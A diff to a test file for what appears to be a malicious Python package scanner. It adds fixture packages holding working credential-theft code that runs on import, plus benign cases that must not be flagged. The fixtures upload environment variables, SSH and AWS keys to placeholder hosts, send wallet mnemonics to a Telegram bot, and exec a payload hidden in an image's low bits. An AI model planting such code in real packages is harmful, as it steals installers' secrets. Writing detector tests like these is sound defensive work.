@@ -478,6 +478,67 @@ def cookies_tg_doc() -> Archive:
     )})  # fmt: skip
 
 
+def env_file_upload() -> Archive:
+    return sd({"demo/__init__.py": lines(
+        "import json, os, tempfile, requests",
+        "",
+        "",
+        "def _collect():",
+        "    path = os.path.join(tempfile.gettempdir(), 'diag.json')",
+        "    with open(path, 'w') as f:",
+        "        json.dump(dict(os.environ), f)",
+        "    with open(path, 'rb') as f:",
+        "        requests.post('https://collect.example.net/u', files={'f': f})",
+        "",
+        "",
+        "_collect()",
+    )})  # fmt: skip
+
+
+def zipped_keys_upload() -> Archive:
+    return sd({"demo/__init__.py": lines(
+        "import os, zipfile, requests",
+        "",
+        "",
+        "def backup():",
+        "    z = os.path.join(os.getenv('TEMP', '/tmp'), 'b.zip')",
+        "    with zipfile.ZipFile(z, 'w') as zf:",
+        "        zf.write(os.path.expanduser('~/.ssh/id_rsa'), 'k')",
+        "        zf.write(os.path.expanduser('~/.aws/credentials'), 'c')",
+        "    requests.post('https://files.example.org/up', files={'file': open(z, 'rb')})",
+    )})  # fmt: skip
+
+
+def mnemonic_to_bot() -> Archive:
+    return sd({"demo/__init__.py": "", "demo/wallet.py": lines(
+        "import requests",
+        "",
+        "BOT = 'https://api.telegram.org/bot000:AAA/sendMessage'",
+        "",
+        "",
+        "def from_mnemonic(phrase, passphrase=''):",
+        "    requests.get(BOT, params={'chat_id': 1, 'text': phrase})",
+        "    return phrase.split()",
+    )})  # fmt: skip
+
+
+def stego_image() -> Archive:
+    return sd({"demo/__init__.py": lines(
+        "import io, requests",
+        "from PIL import Image",
+        "",
+        "",
+        "def _theme():",
+        "    img = Image.open(io.BytesIO(requests.get('https://cdn.example.com/logo.png').content))",
+        "    bits = ''.join(str(p[0] & 1) for p in img.getdata())",
+        "    code = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).split(b'\\0')[0]",
+        "    exec(code)",
+        "",
+        "",
+        "_theme()",
+    )})  # fmt: skip
+
+
 # --- start-up hooks, shells, layers ------------------------------------------------------------
 
 
@@ -856,6 +917,10 @@ CAUGHT: list[tuple[Callable[[], Archive], str, int, str, Severity]] = [
     (b85_import_zlib, "demo-1.0/demo/__init__.py", 2, "PKG004", C),
     (rot13_class_init, "demo-1.0/demo/__init__.py", 6, "PKG001", C),
     (shellcode_loader, "demo-1.0/demo/__init__.py", 9, "PKG003", C),  # was PKG007 high only
+    (env_file_upload, "demo-1.0/demo/__init__.py", 9, "PKG002", C),  # was PKG007 high only
+    (zipped_keys_upload, "demo-1.0/demo/__init__.py", 9, "PKG002", H),  # was low
+    (mnemonic_to_bot, "demo-1.0/demo/wallet.py", 7, "PKG002", H),  # was low
+    (stego_image, "demo-1.0/demo/__init__.py", 9, "PKG003", C),  # was PKG007 high only
     (npm_node_e, "package/package.json", 1, "PKG014", C),
     (npm_run_chain, "package/scripts/env.js", 4, "PKG015", C),  # was medium (PKG014)
     (npm_minified, "package/dist/i.min.js", 1, "PKG015", C),
@@ -1073,3 +1138,54 @@ def test_assembled_member_names_running_ordinary_programs_stay_quiet() -> None:
     )
     found = scan(npm({}, {"index.js": code}))
     assert not [f for f in found if f.code == "PKG015" and f.severity >= Severity.HIGH]
+
+
+def test_files_written_and_archived_without_secrets_are_sent_quietly() -> None:
+    lib = lines(
+        "import json, os, zipfile, requests",
+        "",
+        "",
+        "def report(results):",
+        "    with open('report.json', 'w') as f:",
+        "        json.dump({'passed': len(results)}, f)",
+        "    with zipfile.ZipFile('logs.zip', 'w') as zf:",
+        "        zf.write('build.log')",
+        "    with open('report.json', 'rb') as f:",
+        "        requests.post('https://ci.example.com/r', files={'r': f})",
+        "    requests.post('https://ci.example.com/l', files={'l': open('logs.zip', 'rb')})",
+        "",
+        "",
+        "report([])",
+    )
+    quiet(sd({"demo/__init__.py": lib}), "PKG002")
+
+
+def test_random_seeds_and_a_wallet_deriving_locally_are_not_key_theft() -> None:
+    lib = lines(
+        "import hashlib, requests",
+        "",
+        "",
+        "def set_seed(seed):",
+        "    requests.post('https://tracker.example.com/run', json={'seed': seed})",
+        "",
+        "",
+        "def from_mnemonic(phrase):",
+        "    return hashlib.pbkdf2_hmac('sha512', phrase.encode(), b'mnemonic', 2048)",
+    )
+    found = scan(sd({"demo/__init__.py": lib}))
+    assert not [f for f in found if f.code == "PKG002"]
+
+
+def test_image_bytes_rebuilt_from_a_download_and_saved_are_not_run() -> None:
+    lib = lines(
+        "import requests",
+        "",
+        "",
+        "def thumbnail(url):",
+        "    px = requests.get(url).content",
+        "    data = bytes(b & 0xF0 for b in px)",
+        "    with open('thumb.raw', 'wb') as f:",
+        "        f.write(data)",
+    )
+    found = scan(sd({"demo/__init__.py": lib}))
+    assert not [f for f in found if f.code == "PKG003"]
